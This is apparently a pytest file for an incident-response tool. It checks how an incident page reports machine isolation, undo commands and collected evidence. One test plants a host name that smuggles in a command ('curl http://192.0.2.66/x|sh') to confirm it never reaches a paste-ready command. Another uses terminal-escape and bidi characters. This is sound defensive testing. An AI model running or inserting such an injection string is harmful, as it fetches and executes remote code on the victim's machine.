"""事故のページの「隔離」と「証拠」：何が切れていて、何が開いていて、どう戻し、どの証拠があり、何がまだか。"""

from __future__ import annotations

import io
import os
import platform
import re
import shlex
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.utils import translation

from hikeshi.casebook import services as casebook
from hikeshi.contain import evidence, evidence_books, evidence_import, isolation, standing
from hikeshi.contain import services as contain
from hikeshi.contain.services import Given
from hikeshi.desk import services as desk
from hikeshi.engines.common.problem import Problem
from hikeshi.engines.evidence import Order, journal
from hikeshi.engines.isolation import Plan
from tests.cast import Cast, assemble
from tests.contain.test_evidence import quick
from tests.contain.test_isolation import CUT, OPEN, Told

__all__ = ["quick"]

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def cast() -> Cast:
    return assemble()


def said(case: Any, label: str, lang: str = "ja") -> list[str]:
    with translation.override(lang):
        return [line["text"] for line in contain.summary(case)["lines"] if line["label"] == label]


def answer(cast: Cast, case: Any, card: str, kind: Any = "seen", *chips: str, photos: int = 0) -> None:
    pictures = [(io.BytesIO(b"\xff\xd8 %d" % number), "a.jpg") for number in range(photos)]
    contain.answer(case, cast.actor, Given(card, kind, chips, photos=pictures), lang="ja")


def ransomware(cast: Cast) -> Any:
    case = cast.open_case()
    answer(cast, case, "card-zero", "seen", "another")
    answer(cast, case, "first-look", "seen", "ransomware")
    return case


def test_what_is_not_done_yet_is_said(cast: Cast, client: Client) -> None:
    """おかしい機械があるのに、まだ切っていない・集めていないときは、そう言い、することへつながる。"""
    case = ransomware(cast)
    assert ["まだ切り離していません" in text for text in said(case, "隔離")] == [True]
    assert ["まだ集めていません" in text for text in said(case, "証拠")] == [True]
    client.force_login(cast.hanako)
    page = client.get(f"/i/{case.reference}/").content.decode()
    assert f'<a href="/i/{case.reference}/first-hour/cut-network/">隔離</a>' in page
    assert f'<a href="/i/{case.reference}/keep-evidence/">証拠</a>' in page
    paper = cast.open_case()
    answer(cast, paper, "card-zero", "seen", "another")
    answer(cast, paper, "first-look", "seen", "wrong-paper")
    assert said(paper, "隔離") == said(paper, "証拠") == []


def test_a_cable_that_was_pulled_counts_as_cut(cast: Cast) -> None:
    """線を抜いた・ルーターで切った・電話で教わって切ったなら、切れていて、戻し方を言う。「わからない」は切れたと言わない。"""
    case = ransomware(cast)
    answer(cast, case, "cut-network", "unknown")
    assert ["まだ切り離していません" in text for text in said(case, "隔離")] == [True]
    answer(cast, case, "cut-router")
    (text,) = said(case, "隔離")
    assert "手で切り離しました" in text
    assert "元に戻すのは、調べ終わってから" in text
    answer(cast, case, "photo-and-time", photos=2)
    assert said(case, "証拠")[0] == "写真 2枚"


def test_each_machine_says_what_was_taken_of_it(cast: Cast, tmp_path: Path) -> None:
    """命令で切った機械は、証拠がまだなら、まだと言い、集めれば、数と時刻を言う。失敗と、結果のないものも言う。"""
    case = cast.open_case()
    place = Told("root@web1", answers=(CUT, CUT.replace("pending", "isolated")))
    isolation.act("on", place, Plan(timer=60), isolation.InCase(case, cast.actor))
    assert said(case, "証拠") == ["root@web1：中の証拠は、まだ集めていません"]
    book = evidence.InCase(case, cast.actor)
    begun = {"collection": "c1", "host": "root@web1", "way": "ssh", "system": "linux", "stages": [], "tool": "hikeshi"}
    book.write("collection.begun", begun, {})
    assert "結果がまだ記録されていません" in said(case, "証拠")[0]
    failed = {"collection": "c1", "host": "root@web1", "problem": "evidence.link_lost", "sha256": ""}
    book.write("collection.failed", failed, {})
    assert "最後まで集められませんでした" in said(case, "証拠")[0]
    done = {
        "collection": "c2", "host": "root@web1", "name": "a.tar", "sha256": "0" * 64, "size": 1, "intact": True,
        "manifest_sha256": "0" * 64, "items": 23, "failed": ["arp", "modules"], "started": "x", "ended": "x",
    }  # fmt: skip
    book.write("collection.done", done, {})
    (text,) = said(case, "証拠")
    assert text.startswith("root@web1：23種類を保管しました（")
    assert text.endswith("取れなかったもの 2種類")
    book.write("collection.done", {**done, "collection": "c3", "intact": False}, {})
    assert "おかしいところがあります" in said(case, "証拠")[0]
    isolation.noticed(isolation.look(Told("root@web1", answers=(OPEN,))), case, cast.actor)
    assert ["つながっています" in text for text in said(case, "隔離")] == [True]


@pytest.mark.parametrize(
    ("verb", "answer", "words"),
    [
        ("on", "step\tcut ok inet\n", "いまの状態が分かりません"),
        ("confirm", "failed\tnot_isolated\ndetail\t\n", "つながっています"),
        ("confirm", "failed\tno_state\ndetail\t\n", "いまの状態が分かりません"),
        ("off", "failed\tnft_refused\ndetail\tbusy\n", "切り離されたままです"),
        ("off", "", "いまの状態が分かりません"),
    ],
)
def test_after_a_failure_no_more_is_said_than_is_known(cast: Cast, verb: str, answer: str, words: str) -> None:
    """確定や取り消しがうまくいかなかったとき、「切り離せなかった」とは言わず、分かることだけと、次にすることを言う。"""
    case = cast.open_case()
    cut = CUT.replace("pending", "isolated")
    isolation.act("on", Told("root@web1", answers=(cut, cut)), Plan(timer=60), isolation.InCase(case, cast.actor))
    with pytest.raises(Problem):
        isolation.act(verb, Told("root@web1", answers=(answer, answer)), Plan(), isolation.InCase(case, cast.actor))
    (text,) = said(case, "隔離")
    assert words in text
    assert ("isolate off --host root@web1" in text) == (words == "切り離されたままです")
    assert said(case, "Isolation", "en")


def test_a_refusal_leaves_what_was(cast: Cast) -> None:
    """もう一度切ろうとして断られても、前に切れていたものは切れたまま。名前の違う機械の取り消しは、そう言う。"""
    case, refused = cast.open_case(), "failed\tnot_root\ndetail\tnobody\n"
    cut = CUT.replace("pending", "isolated")
    isolation.act("on", Told("root@web1", answers=(cut, cut)), Plan(timer=60), isolation.InCase(case, cast.actor))
    for verb, host in (("on", "root@web1"), ("off", "root@web9")):
        with pytest.raises(Problem):
            isolation.act(verb, Told(host, answers=(refused, refused)), Plan(), isolation.InCase(case, cast.actor))
    first, other = said(case, "隔離")
    assert "root@web1: 切り離し中" in first
    assert "切り離した記録がありません" in other


def test_this_machines_evidence_is_counted_for_real(cast: Cast, tmp_path: Path, quick: None) -> None:
    """この機械から本当に集めると、数と時刻が出て、英語でも同じことを言う。"""
    case = ransomware(cast)
    evidence.collect(Order(tmp_path / "a.tar", stages=("volatile",), who="花子"), evidence.InCase(case, cast.actor))
    (text,) = said(case, "証拠")
    assert "種類を保管しました（" in text
    for label in ("Evidence", "Isolation"):
        found = said(case, label, "en")
        assert found
        assert not re.search(r"[ぁ-んァ-ヶ一-龠]", "".join(found))


def test_names_from_outside_cannot_redraw_the_page(cast: Cast) -> None:
    """持ち込んだ証拠の機械の名前に、並びをごまかす文字があっても、見える形で出る。"""
    case = cast.open_case()
    data = {
        "collection": "c", "host": "web\u202e1\x1b[2J", "name": "a", "sha256": "0" * 64, "size": 1, "intact": True,
        "manifest_sha256": "0" * 64, "whole": True, "files": 4, "altered": [], "missing": [], "unlisted": [],
        "refused": [], "started": "", "ended": "",
    }  # fmt: skip
    evidence.InCase(case, cast.actor).write("collection.imported", data, {})
    (text,) = said(case, "証拠")
    assert "<U+202E>" in text
    assert "\x1b" not in text


INTENDED = {
    "isolation": "i1", "host": "root@web1", "verb": "on", "way": "ssh", "allow": [], "timer": 60, "tool": "hikeshi",
}  # fmt: skip
DONE = {
    "isolation": "i1", "host": "root@web1", "machine": "web1", "verb": "on", "state": "isolated", "already": False,
    "allow": [], "layers": [], "worked": [], "failed": [], "after_reboot": False, "undo": "",
}  # fmt: skip
FAILED = {"isolation": "i1", "host": "localhost", "verb": "on", "problem": "isolation.not_root", "last_step": ""}
EVIL = "web1; curl http://192.0.2.66/x|sh #"


def journal_of(path: Path, cast: Cast, *lines: tuple[str, dict[str, Any]]) -> Path:
    """A journal that somebody brings."""
    path.parent.mkdir(exist_ok=True)
    book = journal.Journal(path)
    for kind, data in lines:
        book.append(kind, 1, data, cast.actor)
    return path


def test_no_journal_puts_a_command_into_the_page(cast: Cast, tmp_path: Path) -> None:
    """持ち込まれた手控えの機械の名前に命令が紛れていても、取り込まず、貼り付ける命令には決して出ない。手控えは残る。"""
    case = cast.open_case()
    path = journal_of(
        tmp_path / "a.tar.journal",
        cast,
        ("isolation.intended", {**INTENDED, "host": EVIL}),
        ("isolation.done", {**DONE, "host": EVIL}),
        ("isolation.intended", {**INTENDED, "host": "root@[2001:db8::1]", "isolation": "i2"}),
        ("isolation.done", {**DONE, "host": "root@[2001:db8::1]", "isolation": "i2"}),
        ("isolation.done", {**DONE, "host": ["web1"], "isolation": "i3"}),
    )
    evidence_import.take_in(case, path, cast.actor)
    (text,) = said(case, "隔離")
    assert "curl" not in text
    assert f"isolate off --host 'root@[2001:db8::1]' --case {case.reference}" in text
    assert casebook.evidence_of(case).count() == 1
    # Also where such a line is in the casebook already.
    for kind, data in (("isolation.intended", INTENDED), ("isolation.done", DONE)):
        isolation.InCase(case, cast.actor).write(kind, {**data, "host": EVIL}, {})
    assert [text for text in said(case, "隔離") if "--host web1" in text] == []


def test_machines_that_were_cut_at_themselves_are_not_mixed_up(cast: Cast, tmp_path: Path) -> None:
    """べつの機械の前で書いた手控えは、その機械の名前で並び、戻し方も「その機械で」。この機械のものは、そのまま。"""
    case = cast.open_case()
    here = {"host": "localhost", "way": "here", "timer": 0}
    collection = {"collection": "c1", "host": "localhost", "way": "here", "system": "linux", "stages": [], "tool": "h"}
    for folder, machine in (("1", "pc-b"), ("2", "pc-c"), ("3", platform.node())):
        number = {"isolation": folder}
        path = journal_of(
            tmp_path / folder / "localhost-20261106T050000Z.tar.journal",
            cast,
            ("collection.begun", {**collection, "collection": folder}),
            ("isolation.intended", {**INTENDED, **here, **number}),
            ("isolation.done", {**DONE, **number, "host": "localhost", "machine": machine}),
            ("isolation.failed", {**FAILED, "isolation": f"{folder} again"}),
        )
        evidence_import.take_in(case, path, cast.actor)
    other = journal_of(tmp_path / "pc-d.tar.journal", cast, ("isolation.intended", {**INTENDED, **here}))
    evidence_import.take_in(case, other, cast.actor)
    stood = {one.host: (one.state, one.undo) for one in standing.standings(case)}
    assert stood == {
        "pc-b": ("isolated", ""),
        "pc-c": ("isolated", ""),
        "localhost": (
            "isolated",
            ("sudo " if os.name == "posix" else "") + f"python3 start.py isolate off --case {case.reference}",
        ),
        "pc-d": ("owed", ""),
    }
    texts = said(case, "隔離")
    assert "元に戻すには、その機械で（管理者として）：python3 start.py isolate off" in texts[0]
    assert [text for text in texts if "--host" in text] == []
    assert [text.split("：")[0] for text in said(case, "証拠")] == ["pc-b", "pc-c", "localhost", "pc-d"]
    assert "To undo it, at that machine (as administrator): python3" in said(case, "Isolation", "en")[0]


def test_the_undo_names_the_business_where_a_drill_has_the_same_reference(cast: Cast) -> None:
    """戻す命令は、結果がこの事故に書かれるように番号を言い、同じ番号の訓練があれば、事業の名前も言う。"""
    case = cast.open_case()
    isolation.act("on", Told("root@web1", answers=(CUT, CUT)), Plan(timer=60), isolation.InCase(case, cast.actor))
    (one,) = standing.standings(case)
    assert one.undo == f"python3 start.py isolate off --host root@web1 --case {case.reference}"
    drill = desk.make_workspace("訓練の店", owner=cast.hanako, drill=True)
    twin = casebook.open_case(drill, cast.actor, title="訓練")
    assert twin.reference == case.reference
    (one,) = standing.standings(case)
    assert shlex.split(one.undo)[-4:] == ["--case", case.reference, "--workspace", cast.workspace.name]
    assert evidence_books.needed(case.reference, cast.workspace.name).pk == case.pk


def test_a_trial_over_a_lasting_cut_does_not_say_that_it_opens(cast: Cast) -> None:
    """切ったままの機械を時間つきで切り直したら、時間が来ても「元に」ではなく、前の切り離しに戻ると言う。"""
    case = cast.open_case()
    book = isolation.InCase(case, cast.actor)
    lasting = CUT.replace("pending", "isolated")
    isolation.act("on", Told("root@web1", answers=(CUT, CUT)), Plan(timer=60), book)
    assert "時間が来れば元に戻ります" in standing.line(standing.standings(case)[0])
    isolation.act("confirm", Told("root@web1", answers=(lasting, lasting)), Plan(), book)
    for _ in range(2):
        isolation.act("on", Told("root@web1", answers=(CUT, CUT)), Plan(timer=60), book)
        assert "前に確定した切り離しに戻ります" in standing.line(standing.standings(case)[0])
    isolation.act("off", Told("root@web1", answers=(OPEN, OPEN)), Plan(), book)
    isolation.act("on", Told("root@web1", answers=(CUT, CUT)), Plan(timer=60), book)
    assert "時間が来れば元に戻ります" in standing.line(standing.standings(case)[0])


def test_a_machine_without_a_name_is_called_by_what_its_journal_tells(cast: Cast, tmp_path: Path) -> None:
    """切れなかった機械は、同じ手控えの証拠にある名前で呼ぶ。自分を localhost と名乗る機械は、手控えの名前で呼ぶ。"""
    case = cast.open_case()
    begun = {"collection": "c1", "host": "localhost", "way": "here", "system": "linux", "stages": [], "tool": "h"}
    done = {
        "collection": "c1", "host": "pc-e", "name": "a.tar", "sha256": "0" * 64, "size": 1, "intact": True,
        "manifest_sha256": "0" * 64, "items": 23, "failed": [], "started": "x", "ended": "x",
    }  # fmt: skip
    for name, lines in {
        "localhost-1.tar.journal": [
            ("collection.begun", begun),
            ("collection.done", done),
            ("collection.begun", {**begun, "collection": "c2", "host": "root@web1", "way": "ssh"}),
            ("collection.done", {**done, "collection": "c2", "host": "root@web1"}),
            ("isolation.failed", FAILED),
        ],
        "pc-f.tar.journal": [("isolation.done", {**DONE, "host": "localhost", "machine": "localhost"})],
    }.items():
        evidence_import.take_in(case, journal_of(tmp_path / name, cast, *lines), cast.actor)
    assert [one.host for one in standing.standings(case)] == ["pc-e", "pc-f"]
    assert [text.split("：")[0] for text in said(case, "証拠")] == ["pc-e", "root@web1", "pc-f"]


@pytest.mark.parametrize("same", ["", "花子の店"])
def test_the_undo_names_a_business_without_a_name_of_its_own(cast: Cast, same: str) -> None:
    """名前のない事業や、同じ名前の二つの事業でも、画面の取り消しはその事故を一つに決める。"""
    case = cast.open_case()
    cast.workspace.name = same
    cast.workspace.save()
    drill = desk.make_workspace(same, owner=cast.hanako, drill=True)
    assert casebook.open_case(drill, cast.actor, title="訓練").reference == case.reference
    named = evidence_books.options(case)
    assert evidence_books.needed(named[1], named[3]).pk == case.pk
